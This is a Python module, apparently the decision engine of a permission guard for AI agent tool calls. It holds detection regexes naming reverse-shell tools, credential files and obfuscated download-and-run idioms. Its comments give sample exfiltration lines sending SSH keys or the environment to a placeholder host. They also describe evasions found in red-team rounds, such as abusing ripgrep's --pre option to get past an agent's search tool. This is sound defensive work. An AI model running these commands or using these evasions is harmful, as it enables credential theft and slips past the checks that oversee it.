"""The decision, in DESIGN's order. ``evaluate(snapshot, request) -> Decision``.

Request shape errors (``tool`` not a non-empty string, ``args`` not a mapping, ``cwd`` not
an absolute path, an unknown ``mode``) raise :class:`EngineError` (the service answers
4xx). Anything about the *content* of a request is a decision: a Bash call without a
command string, a file tool without a path string, an unreadable URL, are denied or
asked, never allowed. An unexpected exception inside the engine is a deny (fail closed).

Stage 1 (every mode, first failure denies): revocation, hash, capability, destructive
pattern, sequence contract, signature, threat rules (flag rules only add flags).

Stage 2:
 1. operator deny rules and guard plugin deny verdicts -> deny; then operator ask rules
    and plugin ask verdicts -> ask (every mode);
 2. the Bash analysis' dangerous findings -> deny;
    a Bash command the parser could not analyse -> ask (explore: deny);
 3. sensitive paths (Write/Edit tools, any Bash command touching one) -> ask,
    bypass-immune (skipped in bypass);
    a command name only known at run time -> ask in every mode (explore: deny);
 4. operator allow rules and plugin allow verdicts -> allow (not in explore);
 5. risky findings, writes outside the working directory -> ask (skipped in bypass and
    explore);
 6. read-only Bash -> allow;
 7. the mode defaults table (policy data); "llm" means ask with ``llm=True``.

Stage 3 (pure part): in dont_ask every ask becomes deny; a session approval for
``(tool, reason)`` turns an ask into allow, except a bypass-immune ask (a sensitive path
needs a person each time: an allow rule cannot silence it, and neither can a cache);
every remaining ask carries suggestions.
"""
from __future__ import annotations

import base64
import dataclasses
import fnmatch
import hmac
import hashlib
import itertools
import json
import posixpath
import re
import shlex
from collections.abc import Mapping
from functools import lru_cache
from typing import Any, Iterable, Sequence
from urllib.parse import unquote, urlsplit

import re2

from policy.engine import destructive, dialects, powershell, spelling
from policy.engine.regexes import re2_found
from policy.engine.bash_types import BashAnalysis, SimpleCommand
from policy.engine.commands import (CRITICAL_FILES, DRIVE_MOUNT, SYSTEM_DIRS, critical_holder, build_elsewhere_values, build_path_values,
                                    build_reads_stdin, build_rule_word, credential_in, critical_file, may_hold_credential,
                                    option_runs_program, venv_activate, windows_system_dir)
from policy.engine.commands import agent_instructions as _agent_instructions
from policy.engine.commands import unguarded_agent as _unguarded_agent
from policy.engine.commands import GIT_COMMANDS, compose_run_flags, git_split_t, make_expanded, mount_pair, prose_password
from policy.engine.commands import raw_device as _raw_device
from policy.engine.commands import INTERPRETER_CODE_OPTS, INTERPRETER_MODULE_OPTS, INTERPRETERS, SHELLS
from policy.engine.commands import (COMMAND_LINE_RUNNERS, GIT_CONFIG_VALUED, GIT_EXEC_CONFIG, NAME_LOOKUPS, NETWORK_FETCHERS, UNKNOWN_WORD,
                                     runner_command_lines)
from policy.engine.commands import PRIVILEGE as PRIVILEGE_NAMES
from policy.engine.commands import PACKAGE_RUNNERS as _RUN_PACKAGES
from policy.engine.commands import read_only as command_read_only
from policy.engine.paths import (HARMLESS_WRITE_TARGETS, HOME_DIR, PATCH_HINT, glob_dir, home_of, is_inside,
                                 dynamic_globs, normalize_path, other_cwd_alias, patch_targets, posix_spelling, remote_share,
                                 windows_absolute, windows_drive)
from policy.engine.permissions import (
    harmless_env,
    authority_host,
    internal_host,
    confusable_host,
    name_skeleton,
    lenient_url_host,
    HOST_CHARS,
    PATH_KEYS,
    BashRuleNames,
    PermissionRule,
    bash_allow_matches,
    bash_block_matches,
    same_job_words,
    code_job_words,
    editor_job_words,
    EDITOR_CODE_NAMES,
    runner_deleter_words,
    tty_push_words,
    rule_alias_words,
    script_run_words,
    package_runner_words,
    exported_loaders,
    PACKAGE_RUNNERS,
    file_rule_prefixes,
    file_rule_words,
    git_hook_runs,
    GIT_HOOK_NAMES,
    _spellings,
    _file_key,
    exec_wrapped_words,
    NAMED_TOOLS,
    bash_suggestion,
    call_names,
    block_glob_level,
    canonical_json,
    domain_blocks,
    domain_matches,
    file_suggestion,
    glob_matches,
    json_suggestion,
    name_rule_matches,
    param_matches,
    allow_rule_of,
    powershell_rule_level,
    POWERSHELL_TOOL,
    ps_rule_meets_run,
    ps_rule_names_script,
    redirect_allowed,
    url_host,
    words_of_unparsed,
)
from policy.engine.shell import _SERVER_PACKAGES, _SERVING_MODULES
from policy.engine.shell import NETWORK as _NETWORK_FINDING, UPLOAD as _UPLOAD_FINDING
from policy.engine.shell import UNKNOWN_READ as _UNKNOWN_READ_FINDING
from policy.engine.shell import RM_WORKDIR as _RM_WORKDIR, REASONS as _RISKY_REASONS
from policy.engine.shell_fast import new_decision as _new_decision
from policy.engine.snapshot import Snapshot
from policy.engine.types import (
    ACCEPT_EDITS,
    ALLOW,
    ASK,
    BYPASS,
    DENY,
    DONT_ASK,
    EXPLORE,
    MODES,
    Decision,
    EngineError,
    Flag,
    Request,
    ThreatEvent,
)

# --- messages (tests reuse them) -------------------------------------------------------
ERR_TOOL = "tool must be a non-empty string"
ERR_ARGS = "args must be a JSON object"
ERR_CWD = "cwd must be an absolute path"
ERR_MODE = "unknown mode {mode!r}: expected one of " + ", ".join(MODES)
REASON_REVOKED = "tool_revoked: {reason}"
REASON_HASH_MISMATCH = "hash_mismatch"
REASON_HASH_MISSING = "hash_missing: {tool} is registered with a hash and none was sent"
REASON_UNREGISTERED = "tool_unregistered: {tool} is not in the registry and registration is required"
REASON_CAPABILITY = "capability_boundary: missing {missing}"
REASON_CAPABILITY_NO_TASK = "capability_boundary: {tool} needs {missing} and the call has no task"
REASON_DESTRUCTIVE = "destructive_pattern: {reason}"
REASON_SEQUENCE = "sequence_contract: {name}"
REASON_SIGNATURE = "signature_invalid"
REASON_THREAT_RULE = "adaptive_rule: {name}"
REASON_DENY_RULE = "deny rule {rule}"
REASON_ASK_RULE = "ask rule {rule}"
REASON_SOURCE = "runs a script's commands in the agent's shell, where they are not seen and stay for later calls: {part}"

REASON_TOOL_SHELL = "{tool} runs a shell command that is not read-only: {part}"
REASON_TOOL_CODE = "{tool} runs code, as this command would: {part}"
_POWERSHELL_TOOL = re.compile(r"(?i)powershell|pwsh")
_SHELL_ARG_KEYS = frozenset({"command", "cmd", "script", "shell", "bash", "sh", "commandline", "command_line",
                             # (probe round 32, mcp32) a service's command lines, which its
                             # manager runs later (systemd's ExecStart= and the rest)
                             "execstart", "exec_start", "execstartpre", "exec_start_pre", "execstartpost",
                             "exec_start_post", "execstop", "exec_stop", "execstoppost", "exec_stop_post",
                             "execreload", "exec_reload", "execcondition", "exec_condition"})
_WRITE_TOOL_NAME = re.compile(r"write|create|edit|update|delete|remove|move|rename|put|save|append|upload|patch|"
                              r"mkdir|copy|upsert|overwrite|push|commit|unlink|(?:^|_|__)(?:rm|mv|cp|rmdir|touch|"
                              r"chmod|chown|ln)(?:$|_)|truncate|symlink|hardlink|download|replace|insert|set_content|"
                              r"extract|unzip|untar|erase|wipe|trash|install|apply|modify|(?:new|add|make)_?file|emit|store|dump|persist",
                              re.I)
# an MCP tool whose name says it deletes (a path given it goes away, its tree with it)
_DELETE_TOOL_NAME = re.compile(r"delete|remove|unlink|(?:^|_|__)(?:rm|rmdir|rmtree)(?:$|_)|erase|wipe|trash|purge",
                               re.I)
REASON_CONTENT = "the content written holds a risky command ({reason}); whatever runs the file later runs it"
REASON_UNSURE_TREE = "code deletes a tree that may be / or the home directory (its path is not a literal)"
REASON_UNREADABLE_ARGS = "the arguments are too deep, too many or too long to read for the paths they name"
REASON_PARTIAL_RULE = "may reach paths that deny rule {rule} protects (a shell glob, or a whole directory read or deleted)"
ASK_PARTIAL = "ask_partial"
GREP_TOOL = "Grep"
_BRACES = re.compile(r"\{[^{}]*\}")


_EXPANSION_SPANS = re.compile(r"\$\{[^{}]*\}|\$\([^()]*\)|`[^`]*`|\$[A-Za-z_]\w*|\$[0-9@*#?$!-]")


def _expansion_tail(word: str) -> str | None:
    """(probe round 51, evasion51) The name a program word only known at run time ends in, as
    a glob of the program's name: $D/rm -> rm, ${PATH:0:1}bin${PATH:0:1}rm -> *rm; None when
    no literal name ends it ($X, $D/$P) or an expansion cannot be told apart."""
    g = _EXPANSION_SPANS.sub("\0", word)
    if "$" in g or "`" in g or g.endswith("\0") or "\0" not in g:
        return None
    slash, star = g.rfind("/"), g.rfind("\0")
    tail = g[slash + 1:] if slash > star else g[star:]
    return tail.replace("\0", "*") if tail and not _GLOB_CHARS.search(tail) else None


def _glob_alternatives(glob: str) -> list[str]:
    """(probe round 33, tools33) A glob's brace alternatives, each a glob of its own
    ({.env,src/*.py} is .env and src/*.py: ripgrep's and the Glob tool's braces pick each;
    read as one * they lost the leading dot, so .env went unseen); past a few, the rest
    as one * each."""
    return [_BRACES.sub("*", g) for g in dialects._braces(glob, 32)] if "{" in glob else [glob]
# a path whose last name has an extension: taken for a file, not a directory searched
_FILE_NAME = re.compile(r"/[^/.][^/]*\.[A-Za-z0-9]{1,6}$")
# risky findings no allow rule lifts: a rule on git commit allowed a commit, not the
# environment kept in history (round 28); a rule on ping allowed pings, not a lookup of a
# name built from a secret (published2)
# a tool named for fetching a URL (mcp__fetch__fetch, mcp__x__http_request, read_url_content)
_FETCH_TOOL = re.compile(r"(?i)fetch|http|request|url|navigate|brows|curl|scrape|crawl|download|get_?page")
_NO_RULE_LIFTS = frozenset({"secret_stored", "name_carries_data", "credential_sent"})
_FIND_WRITES = frozenset({"-delete", "-fprint", "-fprint0", "-fprintf", "-fls",
                          # what -exec runs on the files find picks is not what Bash(cat:*) saw
                          "-exec", "-execdir", "-ok", "-okdir"})
_CRITICAL_DIRS = tuple(c + "/" for c in sorted(CRITICAL_FILES))
_SYSTEM_DIRS_FOLDED = frozenset(d.casefold() for d in SYSTEM_DIRS) | frozenset(
    "/usr" + d for d in ("/bin", "/sbin", "/lib", "/lib64"))
_HOME_DIR_FOLDED = re.compile(HOME_DIR.pattern, re.I)
REASON_GUARD = "guard {id}: {reason}"
REASON_DANGEROUS = "dangerous command: {reason}: {part}"
REASON_UNPARSEABLE = "the Bash command could not be parsed ({error}): it needs a person"
REASON_NO_COMMAND = "a Bash call needs a non-empty command string"
REASON_NO_PATH = "{tool} needs a {key} string"
REASON_SENSITIVE = "touches a sensitive path: {path} ({entry})"
REASON_EXPOSES = "{tool} opens this machine to the network (a tunnel, a forwarded or exposed port)"
REASON_REMOTE_FILE = ("opens a file on another machine ({host}) by a UNC path: Windows connects to it and offers the "
                      "user's credentials")
REASON_RUNS_LATER = "writes a file another program runs later (a CI pipeline, a commit hook): {path} ({entry})"
REASON_DYNAMIC = "a command name is only known at run time: {part}"
REASON_SHELL_ESCAPE = ("starts a shell that reads its commands only at run time (a shell escape: "
                       "{escape}): {part}")
REASON_SYSTEM_TREE = ("unpacks or copies files whose names it does not show into {path}, which holds the files the "
                      "system runs as root (cron, sudo, services, start-up files): {part}")
REASON_ALLOW_RULE = "allow rule {rule}"
REASON_RISKY = "risky command: {reason}: {part}"
_RM_WORKDIR_REASON = _RISKY_REASONS[_RM_WORKDIR]
REASON_OUTSIDE_CWD = "writes outside the working directory: {path}"
REASON_FORGE_CONTROL = ("commits to a hosted repository a file that says who reviews or what its bots run and "
                        "merge: {path}")
REASON_UNREAD_RUN = "{tool} runs a task, a command or a cell in a shape not known exactly: what it runs was not read"
REASON_UNREAD_TARGET = "{tool} names no file it writes that could be read (an unknown patch header or path): it may write anywhere"
REASON_UNKNOWN_WRITE = "writes to a path only known at run time: {part}"
REASON_READ_ONLY = "read-only command"
REASON_MODE_DEFAULT = "{mode} mode {verb} {what}"
_ROW_WHAT = {
    "read_tools": "a read-only tool (reading files, the agent's own to-do list and plan)",
    "edit_inside_cwd": "editing a file in the working directory",
    "bash_file_commands": "a file command (mkdir, touch, cp, mv, rm, sed -i...) in the working directory",
    "bash_safe_build": "a build or test command on the safe list",
    "bash_other": "a command that is neither read-only nor on the build/test safe list",
    "other_tools": "a call of this tool",
}
_ROW_WHAT_ANYWHERE = {k: v.replace(" in the working directory", "") for k, v in _ROW_WHAT.items()}
_VERB = {ALLOW: "allows", DENY: "denies", ASK: "asks a person about"}
REASON_BYPASS_SKIPPED = "bypass mode allows {what} without asking: {reason}"
REASON_LLM = "no rule decides this Bash command, it needs review: {command}"
REASON_DONT_ASK = "dont_ask: would have asked: {reason}"
REASON_EXPLORE_ASK = "explore mode denies what it would have asked: {reason}"
REASON_SESSION = "approved for this session: {reason}"
REASON_ENGINE_ERROR = "engine error ({error}): denied, failing closed"
REASON_BAD_URL = "the URL could not be read with certainty"
REASON_INTERNAL_URL = "fetches from {host}, an address on this machine or its private network"
REASON_CONFUSABLE_HOST = ("fetches from {host}, a name that imitates {alike} with letters of another script "
                          "(a homograph)")
REASON_RISKY_SQL = "database statement that {what}"
REASON_BROWSER_HIDDEN_CODE = "a browser runs page code that decodes the code it runs (eval of atob, fromCharCode...)"
REASON_BROWSER_FILE = "a browser opens a local file outside the working directory: {path}"
REASON_BROWSER_SCHEME = "a browser opens its own pages or runs a script or inline document ({scheme}:): {url}"
REASON_INSTALLS_AGENT_TOOL = ("{tool} installs or enables an MCP server, an extension or a plugin: a program run"
                              " from then on with the agent's tools")
REASON_UNGUARDED_AGENT_TOOL = ("an AI agent's server is called with its approvals switched off ({what}): the commands"
                               " it runs are chosen later and seen by no guard")
REASON_BROWSER_SESSION = ("a browser tool hands the signed-in session's cookies or storage to the model ({what}),"
                          " as reading the browser profile's cookie file does")
REASON_INFRA_CHANGE = "{tool} changes cloud or infrastructure resources ({verb}), as the command line it stands for would"
REASON_SENDS_TREE = "sends the whole project out ({path}) through {tool}"
REASON_CONSEQUENCE = "{tool} makes a change of consequence ({what}): access, money, history or stored records"
REASON_SECRET_READ = "{tool} reads a secret's value ({what}), as kubectl get secret or a secret manager's get would"
REASON_SENDS_CREDENTIAL = "sends what looks like a credential ({what}) to {tool}"
REASON_SEARCH_OPTION = ("ripgrep may read the search's {what} {value!r} as its own option, which runs a program "
                        "on every file searched")
# (probe round 35, tools35) the ripgrep options that run a program (--pre on every file
# searched, --hostname-bin for hyperlinks): a Grep pattern or path that starts with one is
# that option when the agent's search passes it without "--" (a known bypass of agents'
# search tools: the search needs no approval, and the script may be one the agent wrote)
_RG_RUNS_OPTION = re.compile(r"\s*--(?:pre|hostname-bin)(?:=|\s*$)")
# (probe round 44, tools44) ripgrep's options that read a file of their own (patterns from
# --file=F or -fF, ignore globs from --ignore-file=F): where a search tool passes its pattern
# or path without "--", the file they name is read, and meets the Read rules
_RG_READS_OPTION = re.compile(r"\s*(?:--(?:file|ignore-file)=|-f(?=[^\s=-]))(.+)")

from policy.engine.types import ENGINE_ERROR_CHECK  # noqa: E402  (re-exported)

# Threat event kinds beyond seed 004's (the ThreatEvent.kind field is free text).
KIND_REVOKED = "REVOKED_TOOL"
KIND_HASH = "TOOL_HASH_MISMATCH"
KIND_UNREGISTERED = "UNREGISTERED_TOOL"
KIND_CAPABILITY = "CAPABILITY_BOUNDARY"
KIND_DESTRUCTIVE = "DESTRUCTIVE_PATTERN"
KIND_SEQUENCE = "SEQUENCE_CONTRACT"
KIND_SIGNATURE = "BAD_SIGNATURE"
KIND_RULE_DENY = "RULE_DENY"
KIND_RULE_FLAG = "RULE_FLAG"

_MISSING = object()
_PLAIN_TYPES = frozenset({str, int, float, bool, type(None)})
MEMO_LIMIT = 65_536


def _copy(value: Any) -> Any:
    """A copy of a decision's details (dicts and lists of plain values)."""
    if type(value) is dict:
        return {k: _copy(v) for k, v in value.items()}
    if type(value) is list:
        return [_copy(v) for v in value]
    return value


def _remember(memo: dict, key: Any, value: Any, limit: int = MEMO_LIMIT) -> None:
    if len(memo) >= limit:
        memo.clear()
    memo[key] = value


_RUNS_TEXT = frozenset({"eval", "source", "."})
_CONTENT_PLAIN_ASKS = frozenset({"pipe_to_shell", "chmod_777", "sends_secret", "writes_later", "hidden_code", "hidden_text",
                                 "remote_code_execution"})   # asked as any risky edit is
# (probe round 28, chains) written text that may hold a command run later (a Makefile
# recipe, a package.json script, a hook, os.system(...) in conftest.py, an echo or a
# here-document into one): a network shell's device or program, a socket, a user's
# start-up or agent settings file, git's command-valued keys. One pass decides whether
# the lines are read as commands at all (most writes name none of these).
_LATER_TRIGGER = re.compile(
    r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat|socat|telnetd?|mkfifo|xterm|crontab|rcat|pwncat)\b|[sS]ocket|SOCKET"
    r"|INET|fsockopen|\bpty\b|authorized_keys|\.(?:bash|zsh|mk|tcsh|c)rc\b|\.(?:bash_|z)?profile\b|\.bash_login"
    r"|\.zshenv|\.ssh\b|\.gnupg/|(?i:hookspath|fsmonitor|sshcommand)|\.git/(?:hooks|config)|\.claude|\.mcp\.json"
    r"|\.gitconfig|\.npmrc|\.pypirc|\.netrc|systemd/user|autostart/|LaunchAgents|\bgit\b[^\n]*\bconfig\b")
# (probe round 28, redteam28b) a shell line that decodes, runs a download or spells its
# command in pieces (base64 -d | sh, curl -o x && sh x, $(printf '\x63...') URL | sh, $a$b |
# sh, make's $(SHELL)) or deletes with find: read as Bash too, for a catastrophe, a download
# run or a program named only when it runs (a curl that only fetches is not read: ~100 µs a line)
_LATER_SHELL_TRIGGER = re.compile(
    r"\b(?:base64|xxd)\b|(?:\bprintf\s|\$')[^\n]*\\x[0-9a-fA-F]{2}|\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b"
    r"|\$[({](?:SHELL|BASH)[)}]|\b(?:curl|wget)\b[^\n]*(?:\b(?:ba|z|da|k)?sh\b|\beval\b|\bsource\b|\bchmod\b|\s\.\s)"
    r"|(?:\beval\b|\bsource\b|\$\(|`)[^\n]*\b(?:curl|wget)\b"
    r"|\s-delete\b")
_LATER_EITHER = re.compile(_LATER_TRIGGER.pattern + "|" + _LATER_SHELL_TRIGGER.pattern)
# (the same, in one RE2 pass over every text of a call: Python's re tries each of its
# alternatives at every position, about 30 µs per kilobyte)
_LATER_TRIGGER_ANY = re2.compile(_LATER_EITHER.pattern)
# (probe round 28, redteam28b) interpreter code in written text that runs what it decodes,
# downloads or assembles from pieces (exec(bytes.fromhex(...)), eval(Buffer.from(..,
# 'base64')), exec(urlopen(...).read()), __import__('o'+'s'), require('child_'+'process'),
# system(pack("H*", ...))): what it runs is hidden from every reading, asked as obfuscated
# commands are; exec(open('version.py').read()), setup.py's idiom, reads a project file
_Q = r"\\?['\"]"   # (a quote, JSON-escaped or not)
_HIDDEN_RUN = re2.compile(
    # a runner given what a decoder, a download or a list of codes makes
    r"(?:\b(?:exec|eval|compile|system|execSync|spawnSync|popen|Popen|setTimeout|setInterval|runIn\w*Context)"
    r"|subprocess\.\w+|pickle\.loads?|dill\.loads?|\bnew\s+Function|\bFunction|\bnew\s+vm\.Script)\s*\("
    r"[^\n]*?(?:\bb(?:64|32|16|85)decode|\ba85decode|\bfromhex|\bunhexlify|\bdecompress|marshal\.loads"
    r"|codecs\.decode|Buffer\.from|\batob\s*\(|decode64|decode_base64|base64_decode|gzinflate|str_rot13"
    r"|\bunpack1?\s*\(\s*" + _Q + r"[mu]|\bpack\s*\(\s*" + _Q + r"[Hh]|\burlopen|\brequests\.\w+\s*\(|\bhttpx\.\w+\s*\("
    r"|\bfetch\s*\(|\.decode\(\s*" + _Q + r"(?:hex|base64|rot)|String\.fromCharCode|\bchr\s*\(|\bbytes\s*\(\s*\["
    r"|" + _Q + r"\s*\.join\s*\(|\bopen\s*\(\s*" + _Q + r"(?:/|~))"
    # a download handed to a runner on the same line (fetch(u).then(r => r.text()).then(eval))
    r"|(?:\bfetch|\burlopen|\brequests\.\w+|\.(?:get|request)|\baxios(?:\.\w+)?)\s*\([^\n]*?"
    r"\b(?:eval|exec|Function|runIn\w*Context)\b"
    # a module or a builtin named in pieces, escapes or codes (__import__('o'+'s'),
    # require('\x63hild_process'), global['req'+'uire'], import(`child_${'process'}`))
    r"|(?:__import__|\brequire|import_module|getattr)\s*\((?:[^()\n]|\([^()\n]*\)){0,40}?['\"]\s*\+\s*" + _Q
    + r"|\[\s*" + _Q + r"[^'\"\n]{0,40}" + _Q + r"\s*\+\s*" + _Q
    + r"|(?:__import__|\brequire|import_module|\bexec|\beval|\bsystem|\bpopen)\s*\(\s*" + _Q
    + r"[^'\"\n]*?\\{1,2}(?:x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|[0-7]{3})"
    r"|(?:\brequire|__import__|import_module|\bimport)\s*\(\s*(?:\[|String\.fromCharCode|`[^`\n]*\$\{\s*" + _Q + r")"
    r"|\b__builtins__\b|\bmainModule\s*\.\s*require|process\.binding\s*\(|\bFunction\s*\(\s*" + _Q
    + r"return\s+process|\bchr\s*\(\s*\d+\s*\)\s*\+\s*chr\s*\("
    # a command named by an environment variable (exec(process.env.CMD)); a library from /tmp
    r"|(?:\bexec\w*|\bspawn\w*|\bsystem|\bpopen)\s*\(\s*(?:process\.env|os\.environ|os\.getenv)"
    r"|(?:CDLL|LoadLibrary|dlopen)\s*\(\s*" + _Q + r"(?:/tmp/|/var/tmp/|/dev/shm/|~|\.\./)"
    r"|sys\.path\.(?:insert|append)\s*\([^\n]*?" + _Q + r"(?:/tmp|/var/tmp|/dev/shm)"
    # (the shell's: base64 -d | sh, eval "$(echo … | base64 -d)", xxd -r … | bash)
    r"|(?:\bbase64\s+(?:-\w*[dD]\w*|--decode)|\bxxd\s+-r|\bopenssl\s+(?:enc\s+|base64\s+)?-d\b)[^\n]*?"
    r"(?:[|;&]\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\beval\b|\bsource\b)"
    r"|(?:\beval|\b(?:ba|z|da|k)?sh\s+-c)\s+\\?['\"]?\$\([^\n]*?\b(?:base64|xxd|openssl)\b")
# interpreter code that hands a secret file or the whole environment to the network
# (fetch('https://x/?k=' + readFileSync(homedir() + '/.ssh/id_rsa')), urlopen(url,
# data=json.dumps(dict(os.environ)))); one variable (process.env.API_URL) is no secret
_CODE_SENDS_SECRET = re2.compile(
    r"(?:\bfetch|\burlopen|\brequests\.(?:get|post|put|patch)|\bhttpx\.(?:get|post|put)|\bhttps?\.(?:get|request)"
    r"|\baxios(?:\.\w+)?|\bsendBeacon|\bRequest|\.(?:request|post|put|send|end))\s*\([^\n]*?(?:process\.env(?:$|[^\w.\[])|os\.environ(?:$|[^\w.\[])"
    r"|\.ssh\b|id_rsa|id_ed25519|\.aws/|\.netrc|\.npmrc|\.pypirc|['\"/]\.env['\"])")
# interpreter code that opens a start-up or SSH file for writing (open(os.path.expanduser(
# '~/.ssh/authorized_keys'), 'a'), fs.appendFileSync(homedir() + '/.bashrc', ...)): the
# write the shell's reading of the code does not see
_STARTUP_NAME = (r"(?:authorized_keys|\.(?:bash|zsh|mk|tcsh|c)rc\b|\.(?:bash_|z)?profile\b|\.bash_login|\.zshenv"
                 r"|\.ssh/config|\.gitconfig|\.git/hooks|\.git/config|systemd/user|autostart/|LaunchAgents|\.npmrc"
                 r"|\.pypirc|\.yarnrc|pip\.conf|\.netrc|\.docker/config)")
_CODE_WRITES_STARTUP = re2.compile(
    r"\bopen\s*\([^\n]*?" + _STARTUP_NAME + r"[^\n]*?,\s*(?:mode\s*=\s*)?\\?['\"]\w*[awx+]\w*\\?['\"]|\b(?:append|write)File(?:Sync)?\s*\([^\n]*?" + _STARTUP_NAME
    + r"|" + _STARTUP_NAME + r"[^\n]*?\)\s*\.\s*(?:write_text|write_bytes)\s*\(")
# a requirements or constraints file (pip install -r reads it: round 28's safe build)
_REQUIREMENTS_FILE = re.compile(r"(?i)(?:^|/)(?:[\w.-]*(?:requirements|constraints)[\w.-]*|requirements/[\w.-]+)\.(?:txt|in)$")
# its lines that send pip to another index, to links or to a file outside the project: every
# package it then installs may come from there (the project's own file names the
# packages; the agent changing where they come from is asked, as ~/.npmrc or pip.conf is)
_PIP_SOURCE_LINE = re2.compile(
    r"(?m)(?:^|['\"])\s*(?:(?:-i|--index-url|--extra-index-url|-f|--find-links)[\s=]+\S|--trusted-host\b"
    r"|(?:-r|-c|-e|--requirement|--constraint|--editable)[\s=]+['\"]?(?:/|~|\.\./|[\w+]+://)|[^\n#]*@\s*file:)")
# (the three above in one RE2 pass: most written text holds none)
_CODE_LATER_OPTIONS = re2.Options()
_CODE_LATER_OPTIONS.max_mem = 32 << 20
_CODE_LATER_ANY = re2.compile("|".join(f"(?:{rx.pattern})" for rx in (_HIDDEN_RUN, _CODE_SENDS_SECRET, _CODE_WRITES_STARTUP)),
                              options=_CODE_LATER_OPTIONS)
# (either of the two above: most written text meets neither, in one pass)
_LATER_ANY = re2.compile(f"(?:{_CODE_LATER_ANY.pattern})|(?:{_LATER_EITHER.pattern})", options=_CODE_LATER_OPTIONS)
# what leads a command on a line of a recipe, a Dockerfile or a YAML step
_LINE_LEAD = re.compile(r"^[\s@+!-]*(?:(?:RUN|CMD|ENTRYPOINT)\s+|-?\s*(?:run|script|command|entry)\s*:\s*[|>]?\s*)?")
# source files whose text is a program's, read as that interpreter's code when it names
# one of the above (conftest.py, setup.py, a test's helper, a build script)
_INTERPRETER_FILES = (
    (re.compile(r"(?i)\.pyw?$"), "python3 -c "), (re.compile(r"(?i)\.[cm]?[jt]sx?$"), "node -e "),
    (re.compile(r"(?i)\.rb$|(?:^|/)(?:rakefile|gemfile)$"), "ruby -e "), (re.compile(r"(?i)\.p[lm]$"), "perl -e "),
    (re.compile(r"(?i)\.php$"), "php -r "),
    # (probe round 35, left35) Tcl, Julia, R and Lua sources: a reverse shell in their socket
    # APIs written by Write is one as their -e code is
    (re.compile(r"(?i)\.(?:tcl|tk|exp)$"), "tclsh <<< "), (re.compile(r"(?i)\.jl$"), "julia -e "),
    (re.compile(r"(?i)\.r$"), "Rscript -e "), (re.compile(r"(?i)\.lua$"), "lua -e "))
# (probe round 33, tools33) scripts a shell runs as they are, by their names and #! lines
_SCRIPT_FILES = ((re.compile(r"(?i)\.(?:sh|bash|zsh|ksh|dash|command)$|(?:^|/)(?:\.husky|\.git/hooks|\.githooks)/[^/_][^/]*$"),
                  "sh"),
                 (re.compile(r"(?i)\.ps[md]?1$"), "ps"), (re.compile(r"(?i)\.(?:bat|cmd)$"), "cmd"),
                 # the shell lines other files hold: make's and just's recipes, npm's scripts,
                 # a notebook's ! lines and %%bash cells
                 (re.compile(r"(?:^|/)(?:GNUmakefile|[Mm]akefile|[^/]+\.mk)$"), "make"),
                 (re.compile(r"(?i)(?:^|/)\.?justfile$"), "just"), (re.compile(r"(?:^|/)package\.json$"), "npm"),
                 (re.compile(r"(?i)\.ipynb$"), "nb"),
                 # (and the commands JSON settings name for a program to run: an MCP server's
                 # command and args, a hook's command, an editor task's)
                 (re.compile(r"(?i)(?:^|/)(?:\.?mcp\.json|mcp_config\.json|settings(?:\.local)?\.json|tasks\.json|"
                             r"launch\.json|cline_mcp_settings\.json|claude_desktop_config\.json|\.claude\.json|"
                             # (probe round 35) a dev container's lifecycle commands
                             r"\.?devcontainer\.json)$"),
                  "json"))
# (probe round 47, pwsh47) a PowerShell or cmd script (_SCRIPT_FILES' "ps" and "cmd")
_WINDOWS_SCRIPT = re.compile(r"(?i)\.(?:ps[md]?1|bat|cmd)$")
# (round 36, coldtools36) every _SCRIPT_FILES pattern in one RE2 alternation, a test that must
# pass before they are tried one by one (for an ASCII path: RE2's $ is the text's end, so each
# $ also takes the newline before it that Python's $ takes)
_SCRIPT_FILES_ANY = re2.compile("|".join(
    ("(?i:" + rx.pattern.removeprefix("(?i)") + ")" if rx.flags & re.I else "(?:" + rx.pattern + ")").replace("$", r"\n?$")
    for rx, _k in _SCRIPT_FILES))
_LIFECYCLE_KEYS = frozenset({"initializeCommand", "onCreateCommand", "updateContentCommand", "postCreateCommand",
                             "postStartCommand", "postAttachCommand"})
_NB_SHELL_CELL = re.compile(r"\A\s*%%(?:bash|sh|script\s+(?:ba)?sh)\b[^\n]*\n")
_SHEBANG = re.compile(r"#!\s*(?:/usr)?(?:/local)?/bin/(?:env\s+(?:-S\s+)?)?(sh|bash|zsh|dash|ksh|pwsh|powershell)\b")
_SCRIPT_TEXT = 100_000     # characters of a script read as its shell reads it, at most
_CONTAINER_FILE = re.compile(r"(?i)(?:^|/)(?:[\w.-]*\.)?(?:dockerfile|containerfile)(?:\.[\w.-]+)?$")
# what a command run later may do that its place makes worse than the build it is part
# of: install a crontab, set a setuid bit, power the machine off, kill every process
_LATER_RISKY = frozenset({"crontab_install", "crontab_remove", "setuid", "power_off", "kill_all_processes",
                          "kill_init"})
_LATER_LINES = 64          # lines of one text read as commands, at most
_LATER_CODE = 4_000        # characters of a source file read whole as its interpreter's code, at most
_LATER_NEAR = 6            # ... past that, the lines this near a line naming a trigger
_REMOTE_SHELL = "remote_shell"   # (shell.REMOTE_SHELL, the finding a reverse or bind shell gets)
# (probe round 43, redteam43) what carries a whole directory's files off the machine: a
# finding that sends or connects (rsync/scp to a host, tar | ssh, zip | curl -T -), and a
# file server serving its tree (python3 -m http.server, npx serve .)
_OFF_MACHINE_FINDINGS = frozenset({_NETWORK_FINDING, _UPLOAD_FINDING, _REMOTE_SHELL})
_FILE_SERVERS = _SERVER_PACKAGES | frozenset({"miniserve", "darkhttpd", "updog", "webfsd", "httpd", "caddy"})
# tools whose arguments are words for a model or a person (each tool call the subagent
# then makes is decided on its own), and argument names that hold such words
_PROSE_TOOLS = frozenset({"WebSearch", "Task", "Agent"})
_PROSE_KEYS = frozenset({"title", "body", "text", "message", "messages", "description", "comment", "prompt", "summary",
                         "subject", "notes", "caption", "reason", "explanation", "content", "contents", "thought",
                         "observations", "question", "topic", "query", "q", "queries", "keywords", "search_query"})
_QUERY_KEYS = frozenset({"query", "q", "queries", "search_query"})
# (probe round 35, tools35) a version-control tool's words for people: a commit's or a tag's
# message, a pull request's or a release's title and body. git keeps them, nothing runs them
# (Bash's git commit -m "refuse rm -rf /" is data); a file such a tool commits
# (create_or_update_file's content, push_files' files) is still read as written
